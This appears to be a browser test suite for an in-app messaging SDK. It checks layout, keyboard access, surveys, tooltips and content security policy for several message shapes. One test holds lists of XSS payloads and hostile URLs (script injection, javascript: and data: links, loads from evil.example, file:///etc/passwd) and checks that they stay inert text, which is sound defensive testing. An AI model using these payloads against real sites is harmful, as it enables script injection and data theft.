// Every shape of message: how it looks, how it is used by keyboard alone, what its buttons and questions
// do, and that hostile texts stay texts. Screenshots go to target/screenshots.
import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import { until } from "../edge/harness.mjs";
import { SCREENSHOTS, painted, reactions, shown, watch } from "./browser.mjs";
import { barriers, focused, openShop } from "./shop.mjs";

const VIEWPORTS = [
  ["desktop", { width: 1280, height: 720 }],
  ["phone", { width: 320, height: 640 }],
];
const EFFECT = "0123456789abcdef0123456789abcdef";
const IMAGE = "https://pictures.example/garden.png";
const OPEN = { label: "Show me", open: "https://example.com/new" };
const LATER = { label: "Later", dismiss: "" };
const TEXTS = { effect: EFFECT, title: "Plan the next season", body: "The forecast now looks twelve weeks ahead." };
const nudge = (drawing, more = {}) => ({ ...TEXTS, drawing, ...more });
const present = (target) => ({ present: target });
const NPS = { ask: "nps", event: "NPS Answered", low: "Not at all", high: "Certainly" };
const ASKS = { title: "How likely are you to recommend us?", body: "" };

const SHAPES = {
  "banner-image": nudge({ shape: "banner", at: "top", image: IMAGE, alt: "A garden", buttons: [OPEN, LATER] }),
  inline: nudge({ shape: "banner", at: "inline", target: "#place", buttons: [OPEN] }, { trigger: present("#place") }),
  "modal-image": nudge({ shape: "modal", image: IMAGE, alt: "A garden", buttons: [OPEN, LATER] }),
  "slide-out": nudge({ shape: "slide_out", image: IMAGE, alt: "A garden", buttons: [OPEN, LATER] }),
  tooltip: nudge({ shape: "tooltip", target: "#before", buttons: [OPEN] }, { trigger: present("#before") }),
  "survey-nps": nudge({ shape: "survey", survey: NPS }, ASKS),
  "survey-choice": nudge(
    { shape: "survey", survey: { ask: "choice", event: "Told", choices: ["Too dear", "Something is missing", "Other"] } },
    { title: "What keeps you?", body: "" },
  ),
  "survey-text": nudge({ shape: "survey", survey: { ask: "text", event: "Told" } }, { title: "What would you change?", body: "One thing, in your words." }),
};
const PLACE = { head: "<script>addEventListener('DOMContentLoaded',()=>document.querySelector('main').insertAdjacentHTML('beforeend','<div id=place></div><p>After it.</p>'))</script>" };

// A picture that is drawn, so that screenshots need nobody's network.
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="640" height="360"><rect width="640" height="360" fill="#bfe3c8"/><circle cx="470" cy="110" r="60" fill="#f4c95d"/><path d="M0 360V250q160-90 320 0t320-20v130z" fill="#3f7d58"/></svg>`;

let shop;
before(async () => {
  shop = await openShop();
});
after(() => shop?.close());

async function open(message, options) {
  const opened = await shop.open(message, { page: PLACE, ...options });
  await opened.context.route(`${new URL(IMAGE).origin}/**`, (route) => route.fulfill({ body: SVG, contentType: "image/svg+xml" }));
  return opened;
}

const part = (page) => shown(page).locator(".banner, .card");
const gone = (page) => until(async () => (await shown(page).count()) === 0, "the message to go");

describe("looks right", { concurrency: 4 }, () => {
  for (const [shape, message] of Object.entries(SHAPES)) {
    for (const colorScheme of ["light", "dark"]) {
      for (const [size, viewport] of VIEWPORTS) {
        const name = `${shape}-${colorScheme}-${size}`;
        test(name, async () => {
          const { context, page, begin } = await open(message, { viewport, colorScheme, reducedMotion: "reduce" });
          await page.evaluate(() => {
            window.shifts = 0;
            new PerformanceObserver((list) => list.getEntries().forEach(({ value }) => (window.shifts += value))).observe({ type: "layout-shift" });
          });
          await begin();
          await part(page).waitFor();
          await page.evaluate(() => Promise.all([...document.querySelector("rekindle-message").shadowRoot.querySelectorAll("img")].map((image) => image.decode())));
          await painted(page);
          await page.screenshot({ path: `${SCREENSHOTS}${name}.png` });
          const box = await part(page).boundingBox();
          assert.ok(box.x >= 0 && box.x + box.width <= viewport.width, `within the width: ${JSON.stringify(box)}`);
          assert.ok(box.y >= 0 && box.y + box.height <= viewport.height, `within the height: ${JSON.stringify(box)}`);
          const small = await shown(page).locator("button, a, .score, .choice").evaluateAll((all) =>
            all.map((one) => one.getBoundingClientRect()).filter(({ width, height }) => width < 24 || height < 36).length,
          );
          assert.equal(small, 0, "a thumb can hit everything");
          const clipped = await shown(page).locator(".title, .body, .cta, .choice span").evaluateAll((all) =>
            all.filter((one) => one.scrollWidth > one.clientWidth + 1).length,
          );
          assert.equal(clipped, 0);
          if (shape !== "inline") assert.equal(await page.evaluate(() => window.shifts), 0, "nothing of the page moves");
          assert.deepEqual(await barriers(page), []);
          await context.close();
        });
      }
    }
  }

  for (const [name, viewport, dir] of [
    ["survey-nps-rtl", { width: 360, height: 640 }, "rtl"],
    ["slide-out-rtl", { width: 1280, height: 720 }, "rtl"],
    ["slide-out-4k", { width: 3840, height: 2160 }, "ltr"],
  ]) {
    test(name, async () => {
      const message = SHAPES[name.replace(/-(rtl|4k)$/, "")];
      const { context, page, begin } = await open(message, { viewport, page: { lang: dir === "rtl" ? "ar" : "en", dir } });
      await begin();
      await part(page).waitFor();
      const box = await part(page).boundingBox();
      const close = await shown(page).locator(".close").boundingBox();
      assert.equal(close.x > box.x + box.width / 2, dir === "ltr", "the button is at the end");
      if (viewport.width > 400) assert.equal(box.x > viewport.width / 2, dir === "ltr", "the card is at the end");
      await page.screenshot({ path: `${SCREENSHOTS}${name}.png` });
      await context.close();
    });
  }
});

test("what draws a message comes when one needs it, is named by its content, and a plain banner needs none", async () => {
  const asked = [];
  const { context, page, begin } = await open({ ...TEXTS, layout: "top" });
  context.on("request", (request) => asked.push(new URL(request.url()).pathname));
  await begin();
  await part(page).waitFor();
  assert.deepEqual(asked.filter((path) => path.includes("nudges")), []);
  await context.close();

  const other = await open(SHAPES["slide-out"]);
  const answer = other.page.waitForResponse(/\/sdk\/nudges-[A-Z0-9]{8}\.js$/);
  await other.begin();
  assert.match((await answer).headers()["cache-control"], /immutable/);
  await part(other.page).waitFor();
  await other.context.close();
});

for (const shape of Object.keys(SHAPES)) {
  test(`${shape}: a strict content security policy has nothing to forbid`, async () => {
    const { url } = shop.edge;
    const policy = `default-src 'none'; script-src 'wasm-unsafe-eval' ${url}; connect-src ${url}; img-src ${new URL(IMAGE).origin}`;
    const { context, page, begin } = await open(SHAPES[shape], { policy, page: {} });
    // The page's own script may not run here, so the place is put there from outside.
    await page.evaluate(() => {
      const place = document.createElement("div");
      place.id = "place";
      document.body.append(place);
    });
    await begin();
    await part(page).waitFor();
    const background = await part(page).evaluate((card) => getComputedStyle(card).backgroundColor);
    assert.equal(background, "rgb(255, 255, 255)");
    assert.deepEqual(await page.evaluate(() => window.violations), []);
    assert.equal(await shown(page).locator("[style]").count(), 0);
    await context.close();
  });
}

test("a card takes no focus, is announced, is reached by Tab, and Escape gives focus back", async () => {
  const { context, page, begin } = await open(SHAPES["slide-out"]);
  const seen = watch(page);
  await page.locator("#opener").focus();
  await begin();
  await part(page).waitFor();
  assert.equal(await focused(page), "opener");
  await until(async () => (await shown(page).getByRole("status").textContent())?.startsWith(TEXTS.title), "the announcement");
  const visited = [];
  for (let step = 0; step < 3; step += 1) {
    await page.keyboard.press("Tab");
    visited.push(await focused(page));
  }
  assert.deepEqual(visited, ["cta", "cta other", "close"]);
  await page.keyboard.press("Escape");
  await gone(page);
  assert.equal(await focused(page), "opener");
  await until(() => seen.items.some((item) => item.kind === "dismissed"), "`dismissed` to be reported");
  assert.deepEqual(reactions(seen), ["shown", "dismissed"]);
  await context.close();
});

test("a modal with two buttons keeps focus and gives it back", async () => {
  const { context, page, begin } = await open(SHAPES["modal-image"]);
  await page.locator("#opener").focus();
  await begin();
  await shown(page).getByRole("dialog", { name: TEXTS.title }).waitFor();
  assert.equal(await focused(page), "card");
  const visited = [];
  for (let step = 0; step < 4; step += 1) {
    await page.keyboard.press("Tab");
    visited.push(await focused(page));
  }
  assert.deepEqual(visited, ["cta", "cta other", "close", "cta"]);
  await page.keyboard.press("Shift+Tab");
  assert.equal(await focused(page), "close");
  await page.keyboard.press("Escape");
  await gone(page);
  assert.equal(await focused(page), "opener");
  await context.close();
});

test("buttons record an event, call a function of the page, or close the message", async () => {
  const buttons = [{ label: "Agree", track: "Agreed" }, LATER];
  const { context, page, begin } = await open(nudge({ shape: "slide_out", buttons }));
  const seen = watch(page);
  await begin();
  await shown(page).getByRole("button", { name: "Agree" }).click();
  await gone(page);
  await until(() => seen.items.some((item) => item.kind === "clicked"), "`clicked` to be reported");
  assert.equal(seen.items.filter((item) => item.event === "Agreed").length, 1);
  await context.close();

  for (const [button, kind, called] of [[{ label: "Go", call: "startTour" }, "clicked", [EFFECT]], [LATER, "dismissed", []]]) {
    const other = await open(nudge({ shape: "slide_out", buttons: [button] }));
    const heard = watch(other.page);
    await other.page.evaluate(() => {
      window.called = [];
      rekindle.boot({ functions: { startTour: ({ effect }) => window.called.push(effect) } });
    });
    await other.begin();
    await shown(other.page).getByRole("button", { name: button.label }).click();
    await gone(other.page);
    await until(() => heard.items.some((item) => item.kind === kind), `\`${kind}\` to be reported`);
    assert.deepEqual(await other.page.evaluate(() => window.called), called);
    await other.context.close();
  }
});

test("a button that names no function of the page does nothing to it, `constructor` included", async () => {
  for (const call of ["missing", "constructor", "__proto__"]) {
    const { context, page, begin } = await open(nudge({ shape: "slide_out", buttons: [{ label: "Go", call }] }));
    const warnings = [];
    page.on("console", (message) => warnings.push(message.text()));
    page.on("pageerror", (error) => warnings.push(`thrown: ${error}`));
    await begin();
    await shown(page).getByRole("button", { name: "Go" }).click();
    await gone(page);
    assert.ok(warnings.some((text) => text.includes(`a button calls \`${call}\``)), warnings.join("\n"));
    assert.ok(!warnings.some((text) => text.startsWith("thrown")), warnings.join("\n"));
    await context.close();
  }
});

const SURVEYS = [
  ["survey-nps", ["Tab", "Space", "ArrowRight", "ArrowRight", "Enter"], "NPS Answered", { question: ASKS.title, ask: "nps", answer: 2 }],
  ["survey-choice", ["Tab", "Space", "ArrowDown", "Enter"], "Told", { question: "What keeps you?", ask: "choice", answer: "Something is missing" }],
  ["survey-text", ["Tab", "A", "Shift+B", "Tab", "Enter"], "Told", { question: "What would you change?", ask: "text", answer: "AB" }],
];
for (const [shape, keys, event, properties] of SURVEYS) {
  test(`${shape}: is answered by keyboard alone, as an event, once`, async () => {
    const { context, page, begin } = await open(SHAPES[shape]);
    const seen = watch(page);
    await page.locator("#opener").focus();
    await begin();
    await part(page).waitFor();
    assert.equal(await focused(page), "opener");
    // Without an answer nothing is sent.
    await shown(page).locator(".cta").focus();
    await page.keyboard.press("Enter");
    assert.equal(await shown(page).count(), 1);
    await page.locator("#opener").focus();
    for (const key of keys) await page.keyboard.press(key);
    await gone(page);
    await until(() => seen.items.some((item) => item.kind === "clicked"), "`clicked` to be reported");
    const answers = new Map(seen.items.filter((item) => item.type === "track").map((item) => [item.messageId, item]));
    assert.deepEqual([...answers.values()].map((item) => [item.event, item.properties]), [[event, properties]]);
    assert.equal(await focused(page), "opener");
    await context.close();
  });
}

test("a tooltip waits for what it points at, follows it, and hides while that is out of sight", async () => {
  const { context, page, begin } = await open(nudge({ shape: "tooltip", target: "#late" }, { trigger: present("#late") }), { reducedMotion: "reduce" });
  await begin();
  await page.waitForFunction(() => localStorage.getItem("rekindle:wk_dev:inbox") !== null);
  await painted(page);
  assert.equal(await shown(page).count(), 0);
  await page.evaluate(() => {
    document.body.style.height = "3000px";
    document.querySelector("main").insertAdjacentHTML("beforeend", '<button id="late" style="position:absolute;top:300px;left:500px">Late</button>');
  });
  await part(page).waitFor();
  const apart = () =>
    page.evaluate(() => {
      const [spot, tip] = [document.querySelector("#late"), document.querySelector("rekindle-message").shadowRoot.querySelector(".tip")].map((one) => one.getBoundingClientRect());
      return [Math.round(tip.top - spot.bottom), Math.round(tip.left + tip.width / 2 - (spot.left + spot.width / 2))];
    });
  assert.deepEqual(await apart(), [12, 0]);
  await page.evaluate(() => scrollTo(0, 200));
  await until(async () => (await apart()).join() === "12,0", "it to follow the scrolling");
  await page.evaluate(() => (document.querySelector("#late").style.left = "700px"));
  await until(async () => (await apart()).join() === "12,0", "it to follow the layout");
  await page.evaluate(() => scrollTo(0, 1_000));
  await until(async () => !(await part(page).isVisible()), "it to hide");
  await page.evaluate(() => scrollTo(0, 0));
  await until(() => part(page).isVisible(), "it to come back");
  // Where there is no room below it stands above.
  await page.evaluate(() => (document.querySelector("#late").style.top = "680px"));
  await until(async () => (await part(page).boundingBox()).y < 680 - 40, "it to stand above");
  await page.screenshot({ path: `${SCREENSHOTS}tooltip-above.png` });
  await context.close();
});

test("an inline banner stands in its place, and one whose place never comes holds up nobody", async () => {
  const lost = nudge({ shape: "banner", at: "inline", target: "#nowhere" }, { effect: "f".repeat(32), trigger: present("#nowhere") });
  const { context, page, begin } = await open([lost, SHAPES.inline]);
  await begin();
  await part(page).waitFor();
  assert.equal(await page.evaluate(() => document.querySelector("rekindle-message").parentElement.id), "place");
  assert.equal(await part(page).evaluate((bar) => getComputedStyle(bar).position), "static");
  await context.close();
});

const PAYLOADS = [
  "<script>window.pwned=1</script>",
  "<img src=x onerror=window.pwned=1>",
  "<img src=https://evil.example/a.png>",
  "<svg/onload=window.pwned=1>",
  "<svg><script href=https://evil.example/a.js></script></svg>",
  "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
  "<a href=javascript:window.pwned=1>x</a>",
  "<style>@import 'https://evil.example/a.css';</style>",
  "<link rel=stylesheet href=https://evil.example/a.css>",
  "<base href=https://evil.example/>",
  "</p></section></rekindle-message><script>window.pwned=1</script>",
  "<template shadowrootmode=open><script>window.pwned=1</script></template>",
  "<math><mtext></p><img src=x onerror=window.pwned=1></math>",
  "<form action=https://evil.example/><button>x</button></form>",
  "<details open ontoggle=window.pwned=1>",
  "\" onmouseover=\"window.pwned=1",
  "' autofocus onfocus='window.pwned=1",
  "javascript:window.pwned=1",
  "{{constructor.constructor('window.pwned=1')()}}",
  "${window.pwned=1}",
  "\u202e\u0000<b>\uFFFE",
  "}.card{background:url(https://evil.example/a.png)}",
];
const ADDRESSES = ["javascript:window.pwned=1", "JaVaScRiPt:window.pwned=1", " javascript:window.pwned=1", "data:text/html,<script>parent.pwned=1</script>", "vbscript:x", "//evil.example/a", "blob:https://evil.example/a", "file:///etc/passwd"];
const TAGS = ["SECTION", "DIALOG", "DIV", "P", "H2", "A", "BUTTON", "IMG", "FORM", "FIELDSET", "LABEL", "INPUT", "SPAN", "TEXTAREA"];

test("hostile texts are texts: no script runs, nothing foreign is loaded, nothing leaves the shadow root", async () => {
  const all = PAYLOADS.join("\n");
  const hostile = [
    nudge({ shape: "banner", at: "top", image: ADDRESSES[0], alt: all, buttons: [{ label: all, open: ADDRESSES[1] }, { label: all, call: all }] }),
    nudge({ shape: "modal", buttons: PAYLOADS.slice(0, 2).map((label) => ({ label, track: label })) }),
    nudge({ shape: "slide_out", image: ADDRESSES[3], alt: all, buttons: ADDRESSES.map((open) => ({ label: open, open })) }),
    nudge({ shape: "tooltip", target: "#before", image: ADDRESSES[5] }),
    nudge({ shape: "survey", survey: { ask: "choice", event: all, choices: PAYLOADS, send: all } }),
    nudge({ shape: "survey", survey: { ask: "nps", event: all, low: all, high: all } }),
    nudge({ shape: "survey", survey: { ask: "text", event: all } }),
    ...["top", "modal"].map((layout) => ({ ...TEXTS, layout, cta: { label: all, url: ADDRESSES[0] } })),
  ].map((message) => ({ ...message, title: all, body: all }));
  for (const message of hostile) {
    const name = JSON.stringify(message.drawing ?? message.layout).slice(0, 60);
    const { context, page, begin } = await open(message);
    const foreign = [];
    page.on("request", (request) => {
      const { origin, protocol } = new URL(request.url());
      if (protocol !== "http:" || ![shop.edge.url, shop.server.url].includes(origin)) foreign.push(request.url());
    });
    const before = await page.evaluate(() => [...document.querySelectorAll("*")].length);
    await begin();
    await part(page).waitFor();
    await painted(page);
    const told = await page.evaluate(() => {
      const { shadowRoot: root } = document.querySelector("rekindle-message");
      const parts = [...root.querySelectorAll("*")];
      return {
        pwned: window.pwned,
        outside: [...document.querySelectorAll("*")].length,
        children: document.querySelector("rekindle-message").childNodes.length,
        tags: parts.map(({ tagName }) => tagName),
        handlers: parts.flatMap(({ attributes }) => [...attributes]).filter(({ name }) => name.startsWith("on") || name === "style").length,
        links: parts.flatMap(({ href, src }) => [href, src]).filter(Boolean),
        title: root.querySelector(".title").textContent,
        body: root.querySelector(".body").textContent,
      };
    });
    assert.equal(told.pwned, undefined, name);
    assert.equal(told.outside, before + 1, name);
    assert.equal(told.children, 0, name);
    assert.deepEqual(told.tags.filter((tag) => !TAGS.includes(tag)), [], name);
    assert.equal(told.handlers, 0, name);
    assert.deepEqual(told.links, [], name);
    assert.equal(told.title, all, name);
    assert.equal(told.body, all, name);
    assert.deepEqual(foreign, [], name);
    await context.close();
  }
});

test("a picture is loaded from the web only where it is declared, and says nothing of the page", async () => {
  const { context, page, begin } = await open(SHAPES["slide-out"]);
  const asked = page.waitForRequest(IMAGE);
  await begin();
  assert.equal((await asked).headers().referer, undefined);
  await context.close();

  const broken = await open(nudge({ shape: "slide_out", image: `${shop.server.url}/none.png`, alt: "A garden" }));
  await broken.begin();
  await part(broken.page).waitFor();
  await until(async () => (await shown(broken.page).locator("img").count()) === 0, "the broken picture to go");
  await broken.context.close();
});
